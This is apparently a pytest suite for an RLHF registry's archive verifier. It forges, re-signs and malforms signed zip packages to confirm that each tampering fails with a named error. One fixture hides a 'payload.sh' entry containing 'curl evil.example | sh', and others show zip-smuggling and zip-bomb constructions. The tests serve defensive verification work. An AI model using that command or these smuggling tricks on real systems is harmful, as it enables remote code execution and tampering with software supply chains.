"""`rlhf-registry verify ARCHIVE [--public-key FILE]` offline: exit 0 on the archive as built, and a
non-zero exit naming what failed when any one part is tampered with."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from typer.testing import CliRunner

from app.cli import app
from app.core.signing import key_id_of
from app.packages.archive import HANDOFF_PREDICATE, MANIFEST, PUBLIC_KEY, manifest_subjects, sign_manifest, zip_bytes
from app.packages.dsse import pae, sign_statement
from app.packages.verify import verify_archive
from app.packages.zip_form import canonical_layout
from app.state import AppState
from tests.packages.conftest import Built

runner = CliRunner()
Files = dict[str, bytes]


def _write(tmp_path: Path, files: Files, name: str = "package.zip") -> Path:
    """The files zipped as the builder zips them (canonical form), so that a test sees its own check fail."""
    return _write_raw(tmp_path, zip_bytes(files), name)


def _write_raw(tmp_path: Path, raw: bytes, name: str = "package.zip") -> Path:
    path = tmp_path / name
    path.write_bytes(raw)
    return path


def _verify(path: Path, *extra: str) -> tuple[int, str]:
    result = runner.invoke(app, ["verify", str(path), *extra], env={"COLUMNS": "250"})
    # a malformed archive is a named failure, never a traceback
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "archive: malformed input (" not in result.output  # each case has its own check, not the last resort
    return result.exit_code, result.output


def _failures(output: str) -> list[str]:
    return [line for line in output.splitlines() if line.startswith("FAILED")]


def _flip(data: bytes, at: int | None = None) -> bytes:
    index = len(data) // 2 if at is None else at
    return data[:index] + bytes([data[index] ^ 0x01]) + data[index + 1 :]


def _statement(files: Files) -> dict[str, Any]:
    return dict(json.loads(base64.b64decode(json.loads(files[MANIFEST])["payload"])))


def _record_of_kind(built: Built, kind: str) -> str:
    for path, data in built.files().items():
        if path.startswith("records/") and json.loads(data)["kind"] == kind:
            return path
    raise AssertionError(kind)


@pytest.fixture
def public_key(built: Built, stack: AppState, tmp_path: Path) -> Path:
    path = tmp_path / "registry.pem"
    path.write_text(stack.signing_key.public_key_pem())
    return path


def test_good_archive_verifies(built: Built, tmp_path: Path, public_key: Path) -> None:
    path = tmp_path / "good.zip"
    path.write_bytes(built.archive)
    code, output = _verify(path, "--public-key", str(public_key))
    assert code == 0, output
    assert "OK" in output and "signature by key" in output and "lineage back to criteria" in output
    code, output = _verify(path)  # the archive's own key
    assert code == 0, output


def test_the_published_key_is_the_one_that_signs(built: Built) -> None:
    published = built.chain.approver.get("/v1/signing-key")
    if published.status_code == 200:
        assert published.json()["public_key_pem"].encode() == built.files()["signing-key.pem"]


def _tamper_member(member: Callable[[Built], str]) -> Callable[[Built, Files], str]:
    def tamper(built: Built, files: Files) -> str:
        path = member(built)
        files[path] = _flip(files[path])
        return path

    return tamper


def _tamper_record(built: Built, files: Files) -> str:
    path = _record_of_kind(built, "reward_checkpoint")
    record = json.loads(files[path])
    record["spec"]["metrics"]["validation_accuracy"] = 0.99  # still valid JSON: a plausible forgery
    files[path] = json.dumps(record, indent=2, sort_keys=True).encode() + b"\n"
    return path


def _tamper_payload(built: Built, files: Files) -> str:
    envelope = json.loads(files[MANIFEST])
    statement = json.loads(base64.b64decode(envelope["payload"]))
    statement["predicate"]["warnings"] = []  # hide the warnings
    envelope["payload"] = base64.b64encode(json.dumps(statement).encode()).decode()
    files[MANIFEST] = json.dumps(envelope).encode()
    return "signature"


def _replace_signature(built: Built, files: Files) -> str:
    envelope = json.loads(files[MANIFEST])
    other = Ed25519PrivateKey.generate()
    payload = base64.b64decode(envelope["payload"])
    envelope["signatures"][0]["sig"] = base64.b64encode(other.sign(pae(envelope["payloadType"], payload))).decode()
    files[MANIFEST] = json.dumps(envelope).encode()
    return "signature"


TAMPERS: dict[str, tuple[Callable[[Built, Files], str], str]] = {
    "html": (_tamper_member(lambda b: "handoff.html"), "digest of handoff.html"),
    "pdf": (_tamper_member(lambda b: "handoff.pdf"), "digest of handoff.pdf"),
    "plot": (_tamper_member(lambda b: "plots/qc_per_batch.png"), "digest of plots/qc_per_batch.png"),
    "record": (_tamper_record, "digest of record reward_checkpoint rm v1"),
    "provenance": (
        _tamper_member(lambda b: next(p for p in b.files() if p.startswith("provenance/"))),
        "digest of provenance/",
    ),
    "manifest payload": (_tamper_payload, "signature: manifest.dsse.json does not verify"),
    "signature": (_replace_signature, "signature: manifest.dsse.json does not verify"),
}


@pytest.mark.parametrize("part", list(TAMPERS))
def test_each_tampered_part_fails_and_is_named(built: Built, tmp_path: Path, public_key: Path, part: str) -> None:
    tamper, expected = TAMPERS[part]
    files = built.files()
    target = tamper(built, files)
    code, output = _verify(_write(tmp_path, files), "--public-key", str(public_key))
    assert code != 0, output
    assert expected in output, output
    if target.startswith(("handoff", "plots", "provenance", "records")):
        assert target in output


def test_an_unlisted_file_fails(built: Built, tmp_path: Path, public_key: Path) -> None:
    files = built.files()
    files["extra.txt"] = b"smuggled"
    code, output = _verify(_write(tmp_path, files), "--public-key", str(public_key))
    assert code != 0 and "digest of extra.txt: the file is not listed in the manifest" in output


def test_another_public_key_fails(built: Built, tmp_path: Path) -> None:
    other = tmp_path / "other.pem"
    other.write_bytes(
        Ed25519PrivateKey.generate()
        .public_key()
        .public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    )
    path = tmp_path / "good.zip"
    path.write_bytes(built.archive)
    code, output = _verify(path, "--public-key", str(other))
    assert code != 0 and "signature: manifest.dsse.json does not verify" in output
    assert "signature of provenance/" in output


def test_dropped_record_file_fails(built: Built, tmp_path: Path, public_key: Path) -> None:
    files = built.files()
    path = _record_of_kind(built, "annotation_batch")
    del files[path]
    record_id = path.removeprefix("records/").removesuffix(".json")
    code, output = _verify(_write(tmp_path, files), "--public-key", str(public_key))
    assert code != 0
    assert f"missing file {path}" in output and f"missing record {record_id}" in output
    assert "lineage incomplete at preference_dataset prefs v1" in output


def test_record_dropped_and_manifest_resigned_still_fails_on_lineage(
    built: Built, stack: AppState, tmp_path: Path, public_key: Path
) -> None:
    """Even a forger holding the signing key cannot leave a record out: the lineage check catches it."""
    files = built.files()
    criteria = _record_of_kind(built, "criteria")
    del files[criteria]
    statement = _statement(files)
    records = {
        p.removeprefix("records/").removesuffix(".json"): json.loads(data)["digest"]
        for p, data in files.items()
        if p.startswith("records/")
    }
    others = {p: d for p, d in files.items() if p != MANIFEST}
    key = stack.signing_key
    files[MANIFEST] = sign_manifest(others, records, statement["predicate"], key_id=key.key_id, sign=key.sign)
    assert _statement(files)["predicateType"] == HANDOFF_PREDICATE
    code, output = _verify(_write(tmp_path, files), "--public-key", str(public_key))
    assert code != 0, output
    failures = _failures(output)
    assert failures and not any("signature" in line for line in failures), failures
    assert "lineage incomplete at annotation_batch vendor-a-week-47 v1" in output
    assert "no criteria record is reachable upstream" in output


def test_a_byte_changed_inside_the_zip_fails(built: Built, tmp_path: Path, public_key: Path) -> None:
    with zipfile.ZipFile(io.BytesIO(built.archive)) as archive:
        info = archive.getinfo("handoff.html")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    raw = _flip(built.archive, start + info.compress_size // 2)
    path = tmp_path / "flipped.zip"
    path.write_bytes(raw)
    code, output = _verify(path, "--public-key", str(public_key))
    assert code != 0 and "digest of handoff.html" in output, output


def test_not_a_zip_fails(tmp_path: Path) -> None:
    path = tmp_path / "junk.zip"
    path.write_bytes(b"not a zip")
    code, output = _verify(path)
    assert code != 0 and "archive: cannot read" in output


# --- re-signing helpers: a forger (or a test) holding a signing key --------------------------------


def _signer(stack: AppState) -> tuple[str, Callable[[bytes], bytes]]:
    return stack.signing_key.key_id, stack.signing_key.sign


def _resign_manifest(
    files: Files,
    signer: tuple[str, Callable[[bytes], bytes]],
    edit: Callable[[dict[str, Any]], None] | None = None,
) -> None:
    """Sign a manifest whose file subjects match the files as they now are (record subjects kept), after
    `edit` has changed its statement."""
    statement = _statement(files)
    records = [s for s in statement["subject"] if s["name"].startswith("record:")]
    statement["subject"] = manifest_subjects({p: d for p, d in files.items() if p != MANIFEST}, {}) + records
    if edit is not None:
        edit(statement)
    key_id, sign = signer
    files[MANIFEST] = sign_statement(statement, key_id=key_id, sign=sign)


def _resign_envelope(data: bytes, signer: tuple[str, Callable[[bytes], bytes]], edit: Callable[[Any], None]) -> bytes:
    statement = json.loads(base64.b64decode(json.loads(data)["payload"]))
    edit(statement)
    key_id, sign = signer
    return sign_statement(statement, key_id=key_id, sign=sign)


def _central_header(raw: bytes, name: str) -> int:
    """Offset of `name`'s central directory header in a canonical archive."""
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        infos = archive.infolist()
    offset = _cd_offset(raw)
    for info in infos:
        if info.filename == name:
            return offset
        offset += 46 + len(info.filename.encode()) + len(info.extra) + len(info.comment)
    raise AssertionError(name)


def _local_entry(name: str, data: bytes) -> bytes:
    """A local file header and its data, as a smuggler would add it outside the central directory."""
    raw = zip_bytes({name: data})
    return raw[: _cd_offset(raw)]


def _cd_offset(raw: bytes) -> int:
    """The end record's central directory offset (an archive without a zip comment)."""
    return int(struct.unpack("<L", raw[-6:-2])[0])


# --- 1. canonical zip form --------------------------------------------------------------------------


def _prepend_entry(raw: bytes) -> bytes:
    return _local_entry("handoff.html", b"<p>a different handoff</p>") + raw


def _append_entry(raw: bytes) -> bytes:
    return raw + _local_entry("handoff.html", b"<p>a different handoff</p>")


def _hide_entry_before_central_directory(raw: bytes) -> bytes:
    hidden = _local_entry("payload.sh", b"curl evil.example | sh\n")
    cd = _cd_offset(raw)
    return raw[:cd] + hidden + raw[cd:-6] + struct.pack("<L", cd + len(hidden)) + raw[-2:]


def _add_comment(raw: bytes) -> bytes:
    comment = b"hello from outside the signature"
    return raw[:-2] + struct.pack("<H", len(comment)) + comment


def _directory_with_data(raw: bytes) -> bytes:
    # an entry "hidden/" (a directory, by its name) that carries data; zipfile readers skip it
    files = {**_files_of(raw), "hiddenX": b"smuggled bytes"}
    return zip_bytes(files).replace(b"hiddenX", b"hidden/")


def _files_of(raw: bytes) -> Files:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


FORMS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "prepended bytes": (lambda raw: b"\x00" * 100 + raw, "100 byte(s) before the first zip entry"),
    "prepended local entry": (_prepend_entry, "before the first zip entry"),
    "trailing local entry": (_append_entry, "after the end of the zip"),
    "trailing bytes": (lambda raw: raw + b"trailing", "8 byte(s) after the end of the zip"),
    "hidden local entry": (_hide_entry_before_central_directory, "that the central directory does not list"),
    "zip comment": (_add_comment, "a zip comment of 32 byte(s)"),
    "directory with data": (_directory_with_data, "directory entry hidden/ (declaring 14 byte(s) of data)"),
}


@pytest.mark.parametrize("form", list(FORMS))
def test_a_non_canonical_archive_fails(built: Built, tmp_path: Path, public_key: Path, form: str) -> None:
    change, expected = FORMS[form]
    code, output = _verify(_write_raw(tmp_path, change(built.archive)), "--public-key", str(public_key))
    assert code != 0, output
    assert "archive is not in canonical form: " in output and expected in output, output


def test_a_rezipped_archive_fails_only_on_its_form(built: Built, tmp_path: Path, public_key: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:  # stored, today's timestamps: same files, other bytes
        for name, data in built.files().items():
            archive.writestr(name, data)
    code, output = _verify(_write_raw(tmp_path, buffer.getvalue()), "--public-key", str(public_key))
    assert code != 0
    failures = _failures(output)
    assert len(failures) == 1 and "archive is not in canonical form: entry handoff.html has not deflated" in output


def test_the_canonical_layout_is_the_builders(built: Built) -> None:
    with zipfile.ZipFile(io.BytesIO(built.archive)) as archive:
        infos = archive.infolist()
    entries = []
    for info in infos:
        start = info.header_offset + 30 + len(info.filename.encode())
        entries.append((info.filename, built.files()[info.filename], built.archive[start : start + info.compress_size]))
    assert canonical_layout(entries) == built.archive


def test_deflate_streams_from_another_zlib_still_verify(built: Built, tmp_path: Path, public_key: Path) -> None:
    """A verifier whose zlib compresses differently (zlib-ng, say) must not reject a good archive."""
    entries = []
    for name, data in sorted(built.files().items()):
        compressor = zlib.compressobj(1, zlib.DEFLATED, -zlib.MAX_WBITS)
        entries.append((name, data, compressor.compress(data) + compressor.flush()))
    raw = canonical_layout(entries)
    assert raw != built.archive
    code, output = _verify(_write_raw(tmp_path, raw), "--public-key", str(public_key))
    assert code == 0, output
    assert "canonical zip form (deflate streams from another zlib)" in output
    # ... but not a stream with bytes after its end, which some readers could be shown
    padded = [(n, d, s + b"hidden" if n == "handoff.html" else s) for n, d, s in entries]
    code, output = _verify(
        _write_raw(tmp_path, canonical_layout(padded), "padded.zip"), "--public-key", str(public_key)
    )
    assert code != 0 and "archive is not in canonical form" in output, output


# --- 2, 3. the manifest's statement -----------------------------------------------------------------


def _duplicate_subject(statement: dict[str, Any]) -> None:
    statement["subject"].append({"name": "handoff.html", "digest": {"sha256": "0" * 64}})


def _other_predicate_type(statement: dict[str, Any]) -> None:
    statement["predicateType"] = "https://slsa.dev/provenance/v1"


def _no_deployment(statement: dict[str, Any]) -> None:
    del statement["predicate"]["deployment"]


MANIFESTS: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
    "subject twice": (_duplicate_subject, "manifest: subject handoff.html is listed more than once"),
    "predicate type": (
        _other_predicate_type,
        f'manifest: predicateType is "https://slsa.dev/provenance/v1", not {HANDOFF_PREDICATE}',
    ),
    "no deployment": (_no_deployment, "manifest: the statement's predicate names no deployment id"),
}


@pytest.mark.parametrize("case", list(MANIFESTS))
def test_a_resigned_manifest_with_a_bad_statement_fails(
    built: Built, stack: AppState, tmp_path: Path, public_key: Path, case: str
) -> None:
    edit, expected = MANIFESTS[case]
    files = built.files()
    _resign_manifest(files, _signer(stack), edit)
    code, output = _verify(_write(tmp_path, files), "--public-key", str(public_key))
    assert code != 0 and expected in output, output
    assert not any("signature" in line for line in _failures(output)), output


def test_the_manifest_deployment_must_be_a_deployment_record(
    built: Built, stack: AppState, tmp_path: Path, public_key: Path
) -> None:
    files = built.files()
    policy = json.loads(files[_record_of_kind(built, "policy_checkpoint")])

    def point_at_policy(statement: dict[str, Any]) -> None:
        statement["predicate"]["deployment"]["id"] = policy["id"]

    _resign_manifest(files, _signer(stack), point_at_policy)
    code, output = _verify(_write(tmp_path, files), "--public-key", str(public_key))
    assert code != 0, output
    assert f"manifest: its deployment {policy['id']} is policy_checkpoint" in output
    assert "not a deployment record" in output


# --- 4. malformed input: named failures, never a traceback ------------------------------------------


def _record_without(key: str) -> Callable[[Built, Files], str]:
    def tamper(built: Built, files: Files) -> str:
        path = _record_of_kind(built, "policy_checkpoint")
        record = json.loads(files[path])
        del record[key]
        files[path] = json.dumps(record).encode()
        return path

    return tamper


def _parent_without_id(built: Built, files: Files) -> str:
    path = _record_of_kind(built, "policy_checkpoint")
    record = json.loads(files[path])
    del record["parents"][0]["id"]
    files[path] = json.dumps(record).encode()
    return path


def _replace_with(member: Callable[[Built], str], data: bytes) -> Callable[[Built, Files], str]:
    def tamper(built: Built, files: Files) -> str:
        path = member(built)
        files[path] = data
        return path

    return tamper


def _first_provenance(built: Built) -> str:
    return next(p for p in sorted(built.files()) if p.startswith("provenance/"))


MALFORMED: dict[str, tuple[Callable[[Built, Files], str], str]] = {
    "record without id": (_record_without("id"), "not a registry record: no id"),
    "record without digest": (_record_without("digest"), "not a registry record: no digest"),
    "parent without id": (_parent_without_id, "not a registry record: a parent without an id"),
    "record not JSON": (
        _replace_with(lambda b: _record_of_kind(b, "criteria"), b"\xff\xfe not json"),
        "not a registry record: not JSON",
    ),
    "record nested too deep": (
        _replace_with(lambda b: _record_of_kind(b, "criteria"), b"[" * 200_000),
        "not a registry record: not JSON",
    ),
    "record not an object": (_replace_with(lambda b: _record_of_kind(b, "criteria"), b"[1, 2]"), "not a JSON object"),
    "provenance not JSON": (_replace_with(_first_provenance, b"{oops"), "not a DSSE envelope"),
    "manifest not JSON": (_replace_with(lambda b: MANIFEST, b"\x00\x01"), "manifest: not a DSSE envelope"),
    "key not a key": (_replace_with(lambda b: PUBLIC_KEY, b"-----BEGIN PUBLIC KEY-----\nxx\n"), "unusable public key"),
}


@pytest.mark.parametrize("case", list(MALFORMED))
def test_malformed_content_is_a_named_failure(
    built: Built, stack: AppState, tmp_path: Path, public_key: Path, case: str
) -> None:
    tamper, expected = MALFORMED[case]
    files = built.files()
    target = tamper(built, files)
    if target != MANIFEST:
        _resign_manifest(files, _signer(stack))  # so that only the malformed content itself fails
    pinned = () if target == PUBLIC_KEY else ("--public-key", str(public_key))
    code, output = _verify(_write(tmp_path, files), *pinned)
    assert code != 0 and expected in output, output
    if target.startswith(("records/", "provenance/")):
        assert target in output


def test_provenance_without_build_definition_fails(
    built: Built, stack: AppState, tmp_path: Path, public_key: Path
) -> None:
    files = built.files()
    path = _first_provenance(built)
    files[path] = _resign_envelope(files[path], _signer(stack), lambda s: s["predicate"].pop("buildDefinition"))
    _resign_manifest(files, _signer(stack))
    code, output = _verify(_write(tmp_path, files), "--public-key", str(public_key))
    assert code != 0, output
    assert f"provenance {path}: not SLSA provenance v1: no buildDefinition object in the predicate" in output


def _patch_central(raw: bytes, name: str, at: int, fmt: str, value: int) -> bytes:
    offset = _central_header(raw, name) + at
    return raw[:offset] + struct.pack(fmt, value) + raw[offset + struct.calcsize(fmt) :]


ENTRIES: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    # general purpose flag bit 0 in the central directory: an encrypted entry (zipfile: RuntimeError)
    "encrypted": (lambda raw: _patch_central(raw, "handoff.html", 8, "<H", 1), "(it is encrypted)"),
    # compression method 99 (AE-x): zipfile raises NotImplementedError
    "unknown compression": (
        lambda raw: _patch_central(raw, "handoff.html", 10, "<H", 99),
        "compression method is not supported",
    ),
}


@pytest.mark.parametrize("case", list(ENTRIES))
def test_an_entry_that_cannot_be_read_is_named(built: Built, tmp_path: Path, public_key: Path, case: str) -> None:
    change, expected = ENTRIES[case]
    code, output = _verify(_write_raw(tmp_path, change(built.archive)), "--public-key", str(public_key))
    assert code != 0, output
    assert "digest of handoff.html: the zip entry cannot be read" in output and expected in output, output
    assert "missing file handoff.html" not in output  # it is there, only unreadable


def test_a_zip_bomb_is_refused_unread(built: Built, tmp_path: Path, public_key: Path) -> None:
    # two entries that declare almost 4 GiB each: over the 4 GiB cap in all, refused before reading
    raw = _patch_central(built.archive, "handoff.html", 24, "<L", 0xFFFFFFF0)
    raw = _patch_central(raw, "handoff.pdf", 24, "<L", 0xFFFFFFF0)
    code, output = _verify(_write_raw(tmp_path, raw), "--public-key", str(public_key))
    assert code != 0, output
    assert "bytes uncompressed, over the limit of 4294967296 (refused unread: a zip bomb?)" in output
    # the cap is the reader's too
    report = verify_archive(_write_raw(tmp_path, built.archive, "small.zip"), max_total_bytes=len(built.archive) - 1)
    assert not report.ok and "over the limit" in report.failures[0]


# --- 5. SLSA provenance: no nulls for unknown times --------------------------------------------------


def test_provenance_leaves_unknown_times_out(built: Built) -> None:
    files = built.files()
    declared = 0
    for path, data in files.items():
        if not path.startswith("provenance/"):
            continue
        metadata = _statement({MANIFEST: data})["predicate"]["runDetails"]["metadata"]
        assert all(isinstance(value, str) for value in metadata.values()), (path, metadata)
        if path.startswith("provenance/record-"):  # declared by its registrant: when it started is unknown
            declared += 1
            assert "startedOn" not in metadata and "finishedOn" in metadata
    assert declared


# --- 6. key trust ------------------------------------------------------------------------------------


def _fingerprint(pem: bytes) -> str:
    key = serialization.load_pem_public_key(pem)
    der = key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    return "sha256:" + hashlib.sha256(der).hexdigest()


def test_the_archive_key_is_shown_for_comparison(built: Built, stack: AppState, tmp_path: Path) -> None:
    path = _write_raw(tmp_path, built.archive)
    code, output = _verify(path)
    assert code == 0, output
    pem = stack.signing_key.public_key_pem().encode()
    assert (
        f"signing key (the archive's own signing-key.pem): key_id {stack.signing_key.key_id}"
        f"  sha256 fingerprint (DER SubjectPublicKeyInfo) {_fingerprint(pem)}"
    ) in output
    assert "not who signed it: compare the key_id above with the registry's GET /v1/signing-key" in output


def test_an_archive_resigned_with_another_key(built: Built, tmp_path: Path, public_key: Path) -> None:
    """A forger re-signs everything with their own key and ships it as signing-key.pem: the archive is
    intact under that key (exit 0) but the key shown is not the registry's; pinning the registry's key
    ignores the embedded one and fails."""
    forger = Ed25519PrivateKey.generate()
    signer = (key_id_of(forger.public_key()), forger.sign)
    files = built.files()
    forged_pem = forger.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    files[PUBLIC_KEY] = forged_pem
    for path in [p for p in files if p.startswith("provenance/")]:
        files[path] = _resign_envelope(files[path], signer, lambda s: None)
    _resign_manifest(files, signer)
    path = _write(tmp_path, files)
    code, output = _verify(path)
    assert code == 0, output
    assert f"key_id {signer[0]}" in output and _fingerprint(forged_pem) in output
    assert _fingerprint(public_key.read_bytes()) not in output
    code, output = _verify(path, "--public-key", str(public_key))
    assert code != 0 and "signature: manifest.dsse.json does not verify" in output, output
    assert "signing key (pinned with --public-key)" in output and _fingerprint(public_key.read_bytes()) in output
